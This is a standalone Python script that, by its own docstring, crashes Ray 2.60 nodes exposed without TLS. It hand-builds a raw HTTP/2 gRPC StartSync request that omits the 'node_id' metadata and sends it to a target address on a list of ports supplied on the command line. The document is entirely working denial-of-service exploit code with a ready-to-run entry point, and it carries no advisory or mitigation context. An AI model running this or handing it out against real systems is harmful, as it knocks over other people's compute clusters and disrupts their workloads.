"""One gRPC request that ends Ray 2.60 wherever it arrives without TLS: StartSync without the metadata ``node_id``.

It is HTTP/2's preface, SETTINGS and one HEADERS frame (RFC 9113), with header fields as literals (RFC 7541).
"""

from __future__ import annotations

import contextlib
import socket
import sys

_FIELDS = (
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/ray.rpc.syncer.RaySyncer/StartSync"),
    (":authority", "ray"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
)
_HEADERS, _SETTINGS, _END_HEADERS = 1, 4, 4


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _literal(text: str) -> bytes:
    data = text.encode()
    return bytes([len(data)]) + data


def request() -> bytes:
    """Return the bytes of the request."""
    block = b"".join(b"\x00" + _literal(name) + _literal(value) for name, value in _FIELDS)
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    return preface + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, _END_HEADERS, 1, block)


def send(address: str, port: int, *, wait_s: float = 1.0) -> bool:
    """Send the request; return whether something took the connection."""
    with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=wait_s) as connection:
        connection.sendall(request())
        connection.settimeout(wait_s)
        with contextlib.suppress(OSError):
            while connection.recv(4096):
                pass
        return True
    return False


if __name__ == "__main__":
    _, to, *ports = sys.argv
    taken = [port for port in ports if send(to, int(port))]
    sys.stdout.write(f"{len(taken)} of {len(ports)} ports took it\n")
